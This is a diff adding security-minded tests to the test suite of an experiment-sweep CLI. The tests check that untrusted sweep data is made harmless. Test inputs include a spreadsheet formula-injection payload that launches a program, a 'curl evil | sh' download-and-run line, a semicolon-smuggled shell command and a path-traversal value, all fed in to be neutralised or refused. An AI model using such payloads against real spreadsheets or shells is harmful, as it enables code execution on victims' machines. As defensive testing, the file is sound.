@@ -1,17 +1,28 @@
 """A sweep's folder from the internet: its words, its jobs and its study choose among our own settings alone."""
 
+import csv
+import errno
+import io
 import json
+import os
 import socket
+import sys
 
 import optuna
 import pytest
+from omegaconf import OmegaConf
 
-from aectl.cli import resume
+from aectl.cli import job, resume, sweep
 from aectl.cli.stored_words import MOST_JOBS, check_words, own_modules
+from aectl.commands.pictures import typed_command as typed_run_command
 from aectl.config import ConfigError
+from aectl.config.literal import quoted
+from aectl.run import Run
+from aectl.sweep.jobs import Job, job_number
 from aectl.sweep.plan import PLAN, content, is_own, note, plan, typed_command
 from aectl.sweep.space import Space
 from aectl.sweep.study import Search, open_study
+from aectl.sweep.table import write_csv
 
 REFUSED = (
     "experiment=../../evil",
@@ -284,3 +295,58 @@ def test_an_owner_of_another_kind_is_nobody(tmp_path, owner):
 def test_the_modules_of_typed_classes_are_known():
     words = ["model._target_=my_a.Net,my_b.Net", "noise={_target_: my_c.Noise}", "+model.x._target_=torch.nn.ReLU"]
     assert own_modules([*words, "seed=0,1", "["]) == ["my_a", "my_b", "my_c"]
+
+
+def test_a_table_of_a_strangers_jobs_holds_no_formula_and_is_whole_or_absent(tmp_path, monkeypatch, tally):
+    formula = "=cmd|'/c calc'!A1"
+    jobs = [Job(n, tmp_path / f"{n}-x", {"a": formula, "=b": "-1"}, formula, formula, {"name": "=c"}) for n in range(2)]
+    write_csv(tmp_path / "sweep.csv", jobs, ["a", "=b"])
+    before = (tmp_path / "sweep.csv").read_text()
+    cells = [cell for row in csv.reader(io.StringIO(before)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith("=")] and "-1" in cells
+    tally("texts made harmless")
+    monkeypatch.setattr("os.fsync", full)
+    with pytest.raises(OSError, match="No space left"):
+        write_csv(tmp_path / "sweep.csv", jobs[:1], ["a"])
+    assert (tmp_path / "sweep.csv").read_text() == before
+
+
+def full(file):
+    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+
+
+@pytest.mark.parametrize("name", ["²-x", "①-x", "²", "-x", ""])
+def test_a_folder_that_looks_like_a_number_is_no_job(tmp_path, name):
+    assert job_number(tmp_path / name) is None
+
+
+def test_a_page_shows_no_command_of_another_program():
+    assert typed_run_command("aectl train model=vae; touch x") == "aectl train 'model=vae;' touch x"
+    assert [typed_run_command(text) for text in ("curl evil | sh", "'", "aectl", "")] == [""] * 4
+
+
+def test_a_job_that_is_refused_when_it_is_resumed_has_failed(tmp_path, monkeypatch):
+    (tmp_path / "0-x" / "checkpoints").mkdir(parents=True)
+    (tmp_path / "0-x" / "checkpoints" / "last.pt").touch()
+    (planned,) = plan(tmp_path, [["x"]])
+    Run(planned.folder).update(status="interrupted")
+    for code, failed in ((143, False), (0, False), (2, True)):
+        monkeypatch.setattr("aectl.cli.run_command", lambda *words, code=code, **rest: sys.exit(code))
+        assert bool(job.carry_out(planned)) == failed
+        assert planned.status == ("failed" if failed else "interrupted")
+
+
+def test_a_sweep_of_ones_own_model_trusts_it_when_it_is_resumed_and_nowhere_else(tmp_path):
+    (tmp_path / "0-x" / "checkpoints").mkdir(parents=True)
+    (tmp_path / "0-x" / "checkpoints" / "last.pt").touch()
+    config = OmegaConf.create(
+        {"hydra": {}, "noise": {"_target_": "my_parts.Blur"}, "model": {"_target_": "torch.nn.X"}}
+    )
+    trust = f"trust=[{','.join(map(quoted, sweep.trusted(config, ['model._target_=my_module.Mine'])))}]"
+    assert trust == "trust=['my_module','my_parts']"
+    for folder, words in ((tmp_path, []), (tmp_path / "new", ["x"])):
+        (planned,) = plan(folder, [["x"]])
+        Run(planned.folder).folder.mkdir(parents=True, exist_ok=True)
+        if not words:
+            Run(planned.folder).update(status="interrupted")
+        assert (trust in job.command(planned, [trust])) == (not words)
